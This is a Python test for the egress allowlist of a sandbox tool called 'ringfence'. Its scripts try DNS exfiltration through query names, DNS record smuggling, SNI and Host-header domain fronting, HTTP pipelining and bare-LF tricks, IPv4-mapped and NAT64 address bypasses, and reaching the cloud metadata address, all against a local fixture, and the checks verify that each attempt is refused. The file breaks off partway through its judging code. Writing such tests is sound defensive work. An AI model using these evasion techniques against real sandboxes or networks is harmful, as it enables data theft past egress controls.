#!/usr/bin/env python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""Attacks on the egress allowlist by host name (`ringfence run --allow-host HOST[:PORT]`).

NOTHING HERE LEAVES THE MACHINE: the test moves itself into a network namespace and a mount
namespace of its own and starts tests/helpers/egress_fixture.py there (an authoritative DNS server
on 198.51.100.53 for `test.` and `example.`, HTTP on 80, TLS on 443, a TCP service on 9000 and UDP
listeners, on documentation addresses and 169.254.169.254 bound on lo, every query, connection,
SNI and Host header logged); the fixture's resolv.conf is bound over /etc/resolv.conf there, so
ringfence's launcher forwards to the fixture's DNS server.

Three runs per user (root, and 65534 through setpriv) and per level (kernel; landlock and soft
with `--level`, where the sandbox shares the test namespace's network: DNS to any nameserver is
answered by the launcher's resolver, the loopback is the host's), each `ringfence run
--no-profile --project P --allow-host ... -- python3 P/SCRIPT`:

  refusals   --allow-host allowed.test --allow-host meta.test --allow-host port.test:9000.
             Allowed: curl http:// and https:// (-k) to allowed.test over IPv4 and IPv6, python
             urllib and ssl, getaddrinfo, getent hosts, tests/helpers/raw_dns_client (its own DNS
             query to the resolv.conf nameserver, UDP and TCP, then an HTTP request), 50 threads
             at once to allowed.test:9000, port.test:9000. Refused: names not allowed (other.test,
             shared.test, alias.test: a CNAME to an allowed name), exfiltration by query names
             (getaddrinfo of secret-data-HEX.other.test, TXT queries of random names: the
             fixture's DNS server must never see them), data smuggled in queries for the allowed
             name (an EDNS option, a second question, additional and authority records), ANY queries (REFUSED), DNS sent straight
             to 198.51.100.53:53 (UDP and TCP), direct connects to addresses no allowed name
             resolved to (198.51.100.20, 2001:db8::20, 203.0.113.7, and the IPv4-mapped and NAT64
             forms of 198.51.100.20 and 169.254.169.254), domain fronting on the
             allowed address (SNI or Host other.test or shared.test, which shares allowed.test's
             address, no SNI, an IP literal Host, an absolute-form target naming other.test, bare-LF and mixed-case
             Host headers, a second pipelined request naming other.test on a connection opened
             for allowed.test: the first is answered, the second never reaches the server),
             meta.test, allowed by a rule but resolving to
             169.254.169.254 (the metadata floor), port.test on port 80 (the rule says 9000), UDP
             to the fixture's listeners. A refusal means: the call failed (ECONNREFUSED where the
             connect itself is refused) AND the fixture saw nothing (no accept for a refused
             connect, no request line, no SNI, no datagram, no query).
  chains     --allow-host go.test --allow-host far.test --allow-host short.test
             --allow-host '*.wild.test' --allow-net 203.0.113.7:9000. go.test is a CNAME to
             other.test and far.test a two-step chain into example.: the targets are reachable
             through the allowed names only (other.test itself stays NXDOMAIN, SNI other.test to
             go.test's address is refused); short.test has a TTL of 1 s and must stay reachable
             after it (the pins' 300 s floor); wildcard names below wild.test work; the --allow-net
             rule lets 203.0.113.7:9000 through and not 203.0.113.7:80.

  profile    --profile FILE with `[network] allow_hosts = ["allowed.test"]` (the same allowlist
             from the profile file): allowed.test works, other.test and a direct connect to its
             address do not, and SNI other.test on allowed.test's address is refused.

Below the kernel level the refusals differ where the network is the host's: DNS sent straight to
198.51.100.53 is answered by ringfence's resolver (NXDOMAIN for names not allowed; the fixture
never sees it), a server of the sandbox's own binds loopback only (0.0.0.0: EACCES) and is
reached, RES_OPTIONS carries use-vc. At every level a listener on the loopback outside the
sandbox must never be reached.

After each run the fixture's DNS log may hold only the allowed names and their CNAME targets, and
the violation log must name each refused address (and the name where the launcher knows it) and
the names the resolver refused.

When ringfence does not know --allow-host the test fails at once, saying so.

usage: test_egress.py RINGFENCE RAW_DNS_CLIENT   (as root; also runs as uid 65534)
       RF_EGRESS_DUMP=DIR keeps each run's results, violation log and fixture log in DIR
       test_egress.py --without-sandbox RINGFENCE RAW_DNS_CLIENT
           the same scripts straight in the fixture, no ringfence: a check of the test itself,
           which must then report every refusal as a failure (the fixture sees the attacks)
"""

import errno
import json
import os
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile

HELPERS = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "helpers")
sys.path.insert(0, HELPERS)
import egress_fixture as fxm  # noqa: E402
from rftest import stage, userns_available  # noqa: E402

NOBODY = 65534
HOSTLO = [0]  # the port of the test's own loopback listener (outside every sandbox)
ECONNREFUSED = 111
SANDBOX_RESOLVER = "127.0.0.53"

PRELUDE = r'''
import json, os, socket, ssl, subprocess, sys, threading, time, urllib.error, urllib.request
res = {}
RAW = PROJECT + "/raw_dns_client"
def run(argv, timeout=60):
    try:
        p = subprocess.run(argv, capture_output=True, text=True, timeout=timeout)
        return {"rc": p.returncode, "out": p.stdout[-2000:], "err": p.stderr[-400:]}
    except subprocess.TimeoutExpired:
        return {"rc": "timeout"}
def curl(url, *extra):
    return run(["curl", "-sS", "--max-time", "10", "--connect-timeout", "5", *extra, url])
def raw(*args):
    r = run([RAW, *args])
    try:
        return json.loads(r["out"])
    except (ValueError, KeyError):
        return {"failed": r}
def gai(name, port=80, fam=0):
    try:
        return sorted({a[4][0] for a in socket.getaddrinfo(name, port, fam, socket.SOCK_STREAM)})
    except socket.gaierror as e:
        return {"gaierror": e.errno, "error": str(e)}
def tcp(addr, port, line=b"hello\n", fam=None, timeout=10):
    fam = fam or (socket.AF_INET6 if ":" in addr else socket.AF_INET)
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(timeout)
    try:
        s.connect((addr, port))
    except socket.gaierror as e:
        s.close()
        return {"stage": "resolve", "gaierror": e.errno}
    except OSError as e:
        s.close()
        return {"stage": "connect", "errno": e.errno}
    try:
        s.sendall(line)
        data = b""
        while len(data) < 4096:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
        return {"stage": "done", "reply": data.decode(errors="replace")[:200]}
    except OSError as e:
        return {"stage": "exchange", "errno": e.errno}
    finally:
        s.close()
def http_host(addr, port, host):
    return tcp(addr, port, f"GET /hello HTTP/1.0\r\nHost: {host}\r\n\r\n".encode())
def tls(addr, port, sni):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    s = socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET)
    s.settimeout(10)
    try:
        s.connect((addr, port))
    except OSError as e:
        s.close()
        return {"stage": "connect", "errno": e.errno}
    try:
        t = ctx.wrap_socket(s, server_hostname=sni)
        t.sendall(f"GET /hello HTTP/1.0\r\nHost: {sni or addr}\r\n\r\n".encode())
        data = t.recv(4096)
        t.close()
        return {"stage": "done", "reply": data.decode(errors="replace")[:200]}
    except (OSError, ssl.SSLError) as e:
        s.close()
        return {"stage": "handshake", "error": str(e)[:200]}
def udp(addr, port, data=b"x"):
    s = socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.sendto(data, (addr, port))
        return {"errno": 0}
    except OSError as e:
        return {"errno": e.errno}
    finally:
        s.close()
def udp_connected(addr, port, data=b"x"):
    s = socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.connect((addr, port))
    except OSError as e:
        s.close()
        return {"stage": "connect", "errno": e.errno}
    try:
        s.send(data)
        return {"stage": "send", "errno": 0}
    except OSError as e:
        return {"stage": "send", "errno": e.errno}
    finally:
        s.close()
def urlopen(url):
    try:
        with urllib.request.urlopen(url, timeout=10) as r:
            return {"status": r.status, "body": r.read().decode()}
    except urllib.error.HTTPError as e:
        return {"status": e.code}
    except urllib.error.URLError as e:
        return {"errno": getattr(e.reason, "errno", None), "error": str(e)[:200]}
'''

REFUSALS = PRELUDE + r'''
res["resolv.conf"] = open("/etc/resolv.conf").read()
# -- allowed --
res["getent hosts allowed.test"] = run(["getent", "hosts", "allowed.test"])
res["getent ahosts allowed.test"] = run(["getent", "ahosts", "allowed.test"])
res["gai allowed.test"] = gai("allowed.test")
res["curl http 4"] = curl("http://allowed.test/hello", "-4")
res["curl http 6"] = curl("http://allowed.test/hello", "-6")
res["curl https 4"] = curl("https://allowed.test/hello", "-k", "-4")
res["curl https 6"] = curl("https://allowed.test/hello", "-k", "-6")
res["urllib"] = urlopen("http://allowed.test/hello")
res["python tls"] = tls(ALLOWED4, 443, "allowed.test")
res["tcp 9000"] = tcp("allowed.test", 9000)
res["raw query A"] = raw("query", "allowed.test", "A")
res["raw query A tcp"] = raw("query", "allowed.test", "A", SANDBOX_RESOLVER, "tcp")
res["raw query TXT allowed"] = raw("query", "allowed.test", "TXT")
res["raw fetch 80"] = raw("fetch", "allowed.test", "80")
res["raw fetch 9000"] = raw("fetch", "allowed.test", "9000")
res["port.test 9000"] = tcp("port.test", 9000)
par = []
lock = threading.Lock()
def one():
    r = tcp("allowed.test", 9000)
    with lock:
        par.append(r)
ts = [threading.Thread(target=one) for _ in range(50)]
for t in ts: t.start()
for t in ts: t.join()
res["parallel"] = par
# -- names that are not allowed --
for n in ("other.test", "shared.test", "alias.test"):
    res["getent hosts " + n] = run(["getent", "hosts", n])
    res["gai " + n] = gai(n)
res["gai exfil"] = gai(EXFIL[0])
res["getent exfil"] = run(["getent", "hosts", EXFIL[1]])
res["raw TXT exfil"] = [raw("query", n, "TXT") for n in EXFIL[2:]]
res["raw ANY allowed"] = raw("query", "allowed.test", "ANY")
res["raw ANY other"] = raw("query", "other.test", "ANY")
# -- data smuggled in queries for the allowed name: an EDNS option, a second question, an
# additional record; none of it may reach the fixture's server --
def qname(n):
    return b"".join(bytes([len(l)]) + l.encode() for l in n.split(".")) + b"\0"
def dns_raw(msg, tcp=False):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    s.settimeout(5)
    try:
        if tcp:
            s.connect((RESOLVER, 53))
            s.sendall(len(msg).to_bytes(2, "big") + msg)
            data = s.recv(65535)[2:]
        else:
            s.sendto(msg, (RESOLVER, 53))
            data = s.recv(65535)
        return {"rcode": data[3] & 15 if len(data) > 3 else None, "len": len(data)}
    except OSError as e:
        return {"errno": e.errno}
    finally:
        s.close()
q1 = qname("allowed.test") + b"\0\1\0\1"
opt = b"\0\0\x29\x10\0\0\0\0\0" + (4 + len(SMUGGLE)).to_bytes(2, "big") + b"\xfd\xe9" + \
    len(SMUGGLE).to_bytes(2, "big") + SMUGGLE.encode()
res["smuggle edns"] = dns_raw(b"\x21\x01\x01\x00\0\1\0\0\0\0\0\1" + q1 + opt)
res["smuggle edns tcp"] = dns_raw(b"\x21\x02\x01\x00\0\1\0\0\0\0\0\1" + q1 + opt, tcp=True)
res["smuggle 2 questions"] = dns_raw(b"\x21\x03\x01\x00\0\2\0\0\0\0\0\0" + q1 +
                                     qname(SMUGGLE + ".other.test") + b"\0\1\0\1")
txt = SMUGGLE.encode()
res["smuggle additional"] = dns_raw(b"\x21\x04\x01\x00\0\1\0\0\0\0\0\1" + q1 + qname(SMUGGLE + ".other.test")
                                    + b"\0\x10\0\1\0\0\0\x3c" + (len(txt) + 1).to_bytes(2, "big") + bytes([len(txt)]) + txt)
res["smuggle authority"] = dns_raw(b"\x21\x05\x01\x00\0\1\0\0\0\1\0\0" + q1 + qname(SMUGGLE + ".other.test")
                                   + b"\0\x10\0\1\0\0\0\x3c" + (len(txt) + 1).to_bytes(2, "big") + bytes([len(txt)]) + txt)
# -- DNS straight to the fixture's server --
res["direct dns udp"] = raw("query", DIRECT[0], "A", DNS_ADDR)
res["direct dns tcp"] = raw("query", DIRECT[1], "A", DNS_ADDR, "tcp")
res["direct fetch"] = raw("fetch", DIRECT[2], "80", DNS_ADDR)
res["direct dns python udp"] = udp(DNS_ADDR, 53, b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
                                   b"\x0cdirect-probe\x04test\x00\x00\x01\x00\x01")
# -- addresses no allowed name resolved to --
res["direct other4"] = tcp(OTHER4, 9000)
res["direct other6"] = tcp(OTHER6, 9000)
res["direct other4 80"] = tcp(OTHER4, 80)
res["direct net4"] = tcp(NET4, 9000)
res["raw ip other4"] = raw("ip", OTHER4, "9000")
res["direct mapped other4"] = tcp("::ffff:" + OTHER4, 9000)
res["direct nat64 other4"] = tcp("64:ff9b::c633:6414", 9000)
res["mapped meta"] = tcp("::ffff:" + META4, 9000)
res["raw ip mapped other4"] = raw("ip", "::ffff:" + OTHER4, "80", "allowed.test")
# -- fronting on the allowed address --
res["front curl https other"] = curl("https://other.test/hello", "-k", "--resolve", f"other.test:443:{ALLOWED4}")
res["front curl http other"] = curl("http://other.test/hello", "--resolve", f"other.test:80:{ALLOWED4}")
res["front curl https shared"] = curl("https://shared.test/hello", "-k", "--resolve", f"shared.test:443:{ALLOWED4}")
res["front curl http shared"] = curl("http://shared.test/hello", "--resolve", f"shared.test:80:{ALLOWED4}")
res["front curl https ip"] = curl(f"https://{ALLOWED4}/hello", "-k")
res["front curl http ip"] = curl(f"http://{ALLOWED4}/hello")
res["front curl https6 other"] = curl("https://other.test/hello", "-k", "--resolve", f"other.test:443:[{ALLOWED6}]")
res["front python tls other"] = tls(ALLOWED4, 443, "other.test")
res["front python tls none"] = tls(ALLOWED4, 443, None)
res["front python host other"] = http_host(ALLOWED4, 80, "other.test")
res["front python host shared"] = http_host(ALLOWED4, 80, "shared.test")
res["front raw host other"] = raw("ip", ALLOWED4, "80", "other.test")
# the first request names the allowed host, the next one on the same connection another: the
# relay checks every request of a plain HTTP connection
res["front pipelined"] = tcp(ALLOWED4, 80, b"GET /hello HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
                             b"GET /pipelined HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n")
# an absolute-form target overrides Host (RFC 9112 3.2.2)
res["front absolute-form"] = tcp(ALLOWED4, 80, b"GET http://other.test/hello HTTP/1.0\r\nHost: allowed.test\r\n\r\n")
# bare LF line ends: a parser splitting on CRLF reads a different Host than the server
res["front bare lf"] = tcp(ALLOWED4, 80, b"GET /hello HTTP/1.0\nHost: other.test\nX-Pad: a\r\nHost: allowed.test\r\n\r\n")
res["front host case"] = tcp(ALLOWED4, 80, b"GET /hello HTTP/1.0\r\nhOST: other.test\r\nHost: allowed.test\r\n\r\n")
# -- the metadata floor through an allowed name --
res["gai meta.test"] = gai("meta.test")
res["curl meta.test"] = curl("http://meta.test/hello")
res["tcp meta.test 9000"] = tcp("meta.test", 9000)
res["tcp meta 9000"] = tcp(META4, 9000)
# -- the rule's port --
res["curl port.test 80"] = curl("http://port.test/hello")
res["tcp port.test 80"] = tcp("port.test", 80)
# -- UDP to the fixture --
res["udp allowed 9000"] = udp(ALLOWED4, 9000)
res["udp allowed 5353"] = udp(ALLOWED4, 5353)
res["udp allowed6 9000"] = udp(ALLOWED6, 9000)
res["udp other 9000"] = udp(OTHER4, 9000)
res["udp connected allowed 9000"] = udp_connected(ALLOWED4, 9000)
res["udp connected allowed6 9000"] = udp_connected(ALLOWED6, 9000)
res["udp connected dns"] = udp_connected(DNS_ADDR, 53, b"\x12\x35\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
                                         b"\x0cdirect-probe\x04test\x00\x00\x01\x00\x01")
# -- the sockets the launcher connected on the host's network and handed in --
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
def dissolved(then):
    """Connect to allowed.test:9000 (a socket of the host's network comes back), dissolve the
    connection with AF_UNSPEC, then try `then` on that socket of the host's network."""
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(5)
    try:
        s.connect((ALLOWED4, 9000))
        unspec = struct.pack("H", 0) + b"\0" * 14
        if libc.connect(s.fileno(), unspec, 16) != 0:
            return {"stage": "unspec", "errno": ctypes.get_errno()}
        return then(s)
    except OSError as e:
        return {"stage": "attack", "errno": e.errno}
    finally:
        s.close()
def listen_on(s):
    s.listen(5)
    return {"stage": "listening", "at": s.getsockname()}
def bind_then_listen(s):
    s.bind(("0.0.0.0", 0))
    s.listen(5)
    return {"stage": "listening", "at": s.getsockname()}
def to_loopback(s):
    s.connect(("127.0.0.1", 9))
    return {"stage": "connected to the host's loopback"}
def own_server():
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    # on the host's network (landlock) servers stay on loopback; in a namespace of its own any
    srv.bind(("0.0.0.0" if LEVEL == "kernel" else "127.0.0.1", 0))
    srv.listen(1)
    c = socket.create_connection(("127.0.0.1", srv.getsockname()[1]), timeout=5)
    a, _ = srv.accept()
    a.sendall(b"own")
    got = c.recv(3)
    for x in (a, c, srv):
        x.close()
    return {"stage": "done", "reply": got.decode()}
res["host socket listen"] = dissolved(listen_on)
res["host socket bind listen"] = dissolved(bind_then_listen)
res["host socket to loopback"] = dissolved(to_loopback)
res["own server"] = own_server()
def any_server():
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        srv.bind(("0.0.0.0", 0))
        srv.listen(1)
        return {"stage": "listening"}
    except OSError as e:
        return {"stage": "attack", "errno": e.errno}
    finally:
        srv.close()
res["any server"] = any_server()
# a server on the loopback outside the sandbox (the host's at landlock, the test's namespace's)
res["host loopback"] = tcp("127.0.0.1", HOSTLO)
res["host loopback mapped"] = tcp("::ffff:127.0.0.1", HOSTLO)
res["RES_OPTIONS"] = os.environ.get("RES_OPTIONS", "")
print(json.dumps(res))
'''

CHAINS = PRELUDE + r'''
res["direct other4 first"] = tcp(OTHER4, 9000)
res["getent hosts go.test"] = run(["getent", "hosts", "go.test"])
res["gai go.test"] = gai("go.test", fam=socket.AF_INET)
res["curl go http"] = curl("http://go.test/hello", "-4")
res["curl go https"] = curl("https://go.test/hello", "-k", "-4")
res["tcp go 9000"] = tcp("go.test", 9000, fam=socket.AF_INET)
res["gai other.test"] = gai("other.test")
res["front go other"] = curl("https://other.test/hello", "-k", "--resolve", f"other.test:443:{OTHER4}")
res["front go host other"] = http_host(OTHER4, 80, "other.test")
res["gai far.test"] = gai("far.test")
res["tcp far 9000"] = tcp("far.test", 9000)
res["gai mid.example"] = gai("mid.example")
res["gai target.example"] = gai("target.example")
res["gai short.test"] = gai("short.test")
time.sleep(3)
res["tcp short 9000"] = tcp("short.test", 9000)
res["tcp a.wild 9000"] = tcp("a.wild.test", 9000)
res["tcp x.y.wild 9000"] = tcp("x.y.wild.test", 9000)
res["gai exfil"] = gai(EXFIL[0])
res["tcp net 9000"] = tcp(NET4, 9000)
res["tcp net 80"] = tcp(NET4, 80)
print(json.dumps(res))
'''


PROFILE = PRELUDE + r"""
res["curl http"] = curl("http://allowed.test/hello", "-4")
res["curl https"] = curl("https://allowed.test/hello", "-k", "-6")
res["gai other.test"] = gai("other.test")
res["gai exfil"] = gai(EXFIL[0])
res["direct other4"] = tcp(OTHER4, 9000)
res["front curl https other"] = curl("https://other.test/hello", "-k", "--resolve", f"other.test:443:{ALLOWED4}")
print(json.dumps(res))
"""


class Judge:
    def __init__(self, user, run, failures):
        self.prefix = f"[{user}] {run}"
        self.failures = failures

    def bad(self, msg):
        self.failures.append(f"{self.prefix}: {msg}")

    def ok_curl(self, res, key):
        r = res.get(key, {})
        if r.get("rc") != 0 or r.get("out") != fxm.BODY.decode():
            self.bad(f"{key}: expected the fixture's body, got {r}")

    def refused_curl(self, res, key, rcs=(7, 35, 52, 56)):
        """curl failed: 7 couldn't connect, 35 TLS handshake, 52 empty reply, 56 reset."""
        r = res.get(key, {})
        if r.get("rc") not in rcs:
            self.bad(f"{key}: expected curl to fail (exit {'/'.join(map(str, rcs))}), got {r}")

    def refused_connect(self, res, key):
        r = res.get(key, {})
        if r.get("stage") != "connect" or r.get("errno") != ECONNREFUSED:
            self.bad(f"{key}: expected the connect refused with ECONNREFUSED, got {r}")

    def reply(self, res, key, addr):
        r = res.get(key, {})
        if r.get("stage") != "done" or r.get("reply") != f"hello from {addr}\n":
            self.bad(f"{key}: expected 'hello from {addr}', got {r}")

    def nxdomain(self, res, key):
        r = res.get(key)
        if not isinstance(r, dict) or "gaierror" not in r:
            self.bad(f"{key}: expected the name not to resolve, got {r}")


def sandbox_env(work, user, tag):
    uid = 0 if user == "root" else NOBODY
    home = os.path.join(work, f"home-{user}-{tag}")
    xdg = os.path.join(work, f"xdg-{user}-{tag}")
    for d in (home, xdg):
        os.makedirs(d, exist_ok=True)
        os.chown(d, uid, uid)
        os.chmod(d, 0o700)
    return {"PATH": "/usr/bin:/bin", "HOME": home, "XDG_RUNTIME_DIR": xdg, "LANG": "C"}, xdg


def ringfence(rf, user, project, rules, argv, env, timeout=300):
    """rules may start with ("--profile", FILE), which replaces --no-profile."""
    head = ["--no-profile"] if rules[:1] != ["--profile"] else []
    full = [rf, "run", *head, "--project", project, *rules,
            *os.environ.get("RF_TEST_EXTRA_ARGS", "").split(), "--", *argv]
    if user != "root":
        full = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", "--"] + full
    return subprocess.run(full, capture_output=True, text=True, env=env, timeout=timeout)


def feature_missing(rf, project, work):
    """The reason the egress allowlist cannot be tested (ringfence does not know --allow-host),
    or None."""
    env, _ = sandbox_env(work, "root", "probe")
    p = ringfence(rf, "root", project, ["--allow-host", "allowed.test"], ["/bin/true"], env, timeout=60)
    if p.returncode == 2 and "allow-host" in p.stderr:
        return (f"ringfence run does not accept --allow-host (exit 2: {p.stderr.strip()[:300]!r}); "
                "the egress allowlist is not built in this binary")
    return None


def run_sandbox(rf, user, work, project, script, rules, tag):
    env, xdg = sandbox_env(work, user, tag)
    argv = ["/usr/bin/python3", f"{project}/{script}"]
    if rf is None:  # --without-sandbox: the same script with no ringfence (the test's own check)
        if user != "root":
            argv = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", "--"] + argv
        p = subprocess.run(argv, capture_output=True, text=True, env=env, timeout=300)
    else:
        p = ringfence(rf, user, project, rules, argv, env)
    lines = p.stdout.strip().splitlines()
    if p.returncode != 0 or not lines:
        raise AssertionError(f"ringfence run as {user} failed (exit {p.returncode}): "
                             f"stderr {p.stderr.strip()[-1500:]!r}, stdout {p.stdout[-500:]!r}")
    try:
        res = json.loads(lines[-1])
    except ValueError:
        raise AssertionError(f"the script printed no result: {p.stdout[-1000:]!r} {p.stderr[-1000:]!r}")
    log = os.path.join(xdg, "ringfence", "violations.jsonl")
    vlog = [json.loads(x) for x in open(log)] if os.path.exists(log) else []
    return res, vlog


def denials(vlog, addr, port=None):
    return [x for x in vlog if x.get("action") == "deny" and x.get("address") == addr
            and (port is None or x.get("port") == port)]


def check_vlog(j, vlog, addr, name=None, port=None):
    got = denials(vlog, addr, port)
    where = f"{addr}" + (f" port {port}" if port else "")
    if not got:
        j.bad(f"the violation log has no denial of {where} ({len(vlog)} lines: "
              f"{sorted({(x.get('address'), x.get('port')) for x in vlog}, key=str)})")
    elif name and not any(name in json.dumps(x) for x in got):
        j.bad(f"the violation log's denials of {where} do not name {name}: {got[:3]}")


def fixture_saw(log, kind=None, addr=None, port=None, **match):
    out = []
    for x in log:
        if kind and x.get("kind") != kind:
            continue
        if addr and x.get("addr") != addr:
            continue
        if port and x.get("port") != port:
            continue
        if all(x.get(k) == v for k, v in match.items()):
            out.append(x)
    return out


def judge_refusals(user, res, log, vlog, failures, exfil, direct, smuggle, level="kernel"):
    j = Judge(user, f"refusals/{level}", failures)
    kernel = level == "kernel"
    # a socket of the host's network handed in never serves, nor reaches the host's loopback
    for k in ("host socket listen", "host socket bind listen"):
        if res[k].get("stage") != "attack" or res[k].get("errno") != errno.EACCES:
            j.bad(f"{k}: a socket connected on the host's network became a server: {res[k]}")
    r = res["host socket to loopback"]
    if r.get("stage") != "attack" or r.get("errno") != ECONNREFUSED:
        j.bad(f"host socket to loopback: expected ECONNREFUSED, got {r}")
    if res["own server"] != {"stage": "done", "reply": "own"}:
        j.bad(f"a server of the sandbox's own ({'0.0.0.0' if kernel else '127.0.0.1'}): {res['own server']}")
    for k in ("host loopback", "host loopback mapped"):
        j.refused_connect(res, k)
    if kernel:
        if res["any server"].get("stage") != "listening":
            j.bad(f"a server on 0.0.0.0 in the sandbox's own network namespace: {res['any server']}")
        hosts_served = [x for x in vlog if "cannot be a server" in x.get("rule", "")]
        if len(hosts_served) < 2:
            j.bad(f"the refused bind/listen on a host socket are in the violation log: {hosts_served}")
        if f"nameserver {SANDBOX_RESOLVER}" not in res["resolv.conf"] or fxm.DNS_ADDR in res["resolv.conf"]:
            j.bad(f"the sandbox's /etc/resolv.conf does not name {SANDBOX_RESOLVER} alone: {res['resolv.conf']!r}")
    else:
        if res["any server"].get("errno") != errno.EACCES:
            j.bad(f"a server on 0.0.0.0 on the host's network (landlock): expected EACCES, got {res['any server']}")
        if "use-vc" not in res["RES_OPTIONS"].split():
            j.bad(f"RES_OPTIONS in the sandbox lacks use-vc: {res['RES_OPTIONS']!r}")
        check_vlog(j, vlog, "127.0.0.1", port=HOSTLO[0])
    # allowed
    r = res["getent hosts allowed.test"]
    if r.get("rc") != 0 or fxm.ALLOWED4 not in r.get("out", "") and fxm.ALLOWED6 not in r.get("out", ""):
        j.bad(f"getent hosts allowed.test: {r}")
    r = res["getent ahosts allowed.test"]
    if r.get("rc") != 0 or fxm.ALLOWED4 not in r.get("out", "") or fxm.ALLOWED6 not in r.get("out", ""):
        j.bad(f"getent ahosts allowed.test: expected both {fxm.ALLOWED4} and {fxm.ALLOWED6}: {r}")
    if res["gai allowed.test"] != sorted([fxm.ALLOWED4, fxm.ALLOWED6]):
        j.bad(f"getaddrinfo(allowed.test): {res['gai allowed.test']}")
    for k in ("curl http 4", "curl http 6", "curl https 4", "curl https 6"):
        j.ok_curl(res, k)
    if res["urllib"] != {"status": 200, "body": fxm.BODY.decode()}:
        j.bad(f"urllib http://allowed.test/hello: {res['urllib']}")
    if res["python tls"].get("reply", "").split("\r\n")[0] not in ("HTTP/1.0 200 OK", "HTTP/1.1 200 OK"):
        j.bad(f"python ssl to allowed.test:443: {res['python tls']}")
    j.reply(res, "tcp 9000", fxm.ALLOWED4)
    j.reply(res, "port.test 9000", fxm.PORT4)
    for k, tcp_ in (("raw query A", False), ("raw query A tcp", True)):
        r = res[k]
        # its resolv.conf's nameserver: the sandbox's at the kernel level, the host's at landlock
        server = SANDBOX_RESOLVER if kernel or tcp_ else fxm.DNS_ADDR
        if r.get("step") != "done" or r.get("rcode") != 0 or r.get("address") != fxm.ALLOWED4 \
                or r.get("server") != server:
            j.bad(f"{k}: raw_dns_client's own query to {server} ({'TCP' if tcp_ else 'UDP'}): {r}")
    r = res["raw query TXT allowed"]
    if r.get("rcode") != 0 or r.get("txt") != "fixture-txt":
        j.bad(f"raw TXT query of allowed.test (an allowed name is forwarded whatever the type): {r}")
    r = res["raw fetch 80"]
    if r.get("step") != "done" or r.get("response") not in ("HTTP/1.0 200 OK", "HTTP/1.1 200 OK"):
        j.bad(f"raw_dns_client fetch allowed.test 80: {r}")
    r = res["raw fetch 9000"]
    if r.get("step") != "done" or r.get("response") != f"hello from {fxm.ALLOWED4}":
        j.bad(f"raw_dns_client fetch allowed.test 9000: {r}")
    good = sum(1 for r in res["parallel"] if r.get("reply") == f"hello from {fxm.ALLOWED4}\n")
    if good != 50:
        errs = sorted({json.dumps(r) for r in res["parallel"] if r.get("reply") != f"hello from {fxm.ALLOWED4}\n"})
        j.bad(f"50 parallel connects to allowed.test:9000: {good} answered; the others: {errs[:5]}")
    # names that are not allowed
    for n in ("other.test", "shared.test", "alias.test"):
        if res["getent hosts " + n].get("rc") != 2:
            j.bad(f"getent hosts {n}: expected exit 2 (not found), got {res['getent hosts ' + n]}")
        j.nxdomain(res, "gai " + n)
    j.nxdomain(res, "gai exfil")
    if res["getent exfil"].get("rc") != 2:
        j.bad(f"getent hosts {exfil[1]}: expected exit 2, got {res['getent exfil']}")
    for n, r in zip(exfil[2:], res["raw TXT exfil"]):
        if r.get("step") != "done" or r.get("rcode") != 3:
            j.bad(f"TXT query of {n} through the sandbox's resolver: expected NXDOMAIN (3), got {r}")
    for k in ("raw ANY allowed", "raw ANY other"):
        r = res[k]
        want = (5,) if k == "raw ANY allowed" else (3, 5)
        if r.get("step") != "done" or r.get("rcode") not in want:
            j.bad(f"{k}: expected rcode {'/'.join(map(str, want))} (REFUSED), got {r}")
    # DNS straight to the fixture's server: refused in a namespace of the sandbox's own; on the
    # host's network answered by the launcher's resolver (names not allowed: NXDOMAIN)
    for k in ("direct dns udp", "direct dns tcp") if not kernel else ():
        if res[k].get("step") != "done" or res[k].get("rcode") != 3:
            j.bad(f"{k}: DNS sent straight to {fxm.DNS_ADDR}:53 was not answered NXDOMAIN by ringfence: {res[k]}")
    if not kernel and res["direct fetch"].get("step") == "done":
        j.bad(f"direct fetch: a name resolved through {fxm.DNS_ADDR} was fetched: {res['direct fetch']}")
    for k in ("direct dns udp", "direct dns tcp", "direct fetch") if kernel else ():
        r = res[k]
        if r.get("step") not in ("send-query", "recv-answer") or r.get("errno") == 0:
            j.bad(f"{k}: DNS sent straight to {fxm.DNS_ADDR}:53 was not refused: {r}")
    if kernel and res["direct dns tcp"].get("errno") not in (None, ECONNREFUSED):
        j.bad(f"direct dns tcp: expected ECONNREFUSED, got {res['direct dns tcp']}")
    if kernel and res["direct dns python udp"].get("errno") == 0:
        j.bad(f"a UDP DNS query sent by python straight to {fxm.DNS_ADDR}:53 was not refused")
    # addresses no allowed name resolved to
    for k in ("direct other4", "direct other6", "direct other4 80", "direct net4", "direct mapped other4",
              "direct nat64 other4", "mapped meta"):
        j.refused_connect(res, k)
    for k in ("raw ip other4", "raw ip mapped other4"):
        r = res[k]
        if r.get("step") != "connect" or r.get("errno") != ECONNREFUSED:
            j.bad(f"{k} (raw_dns_client ip {r.get('address')}): expected ECONNREFUSED at connect, got {r}")
    # fronting
    for k in ("front curl https other", "front curl http other", "front curl https shared",
              "front curl http shared", "front curl https ip", "front curl http ip", "front curl https6 other"):
        j.refused_curl(res, k)
    for k in ("front python tls other", "front python tls none"):
        if res[k].get("stage") == "done":
            j.bad(f"{k}: the TLS exchange with a fronted server name went through: {res[k]}")
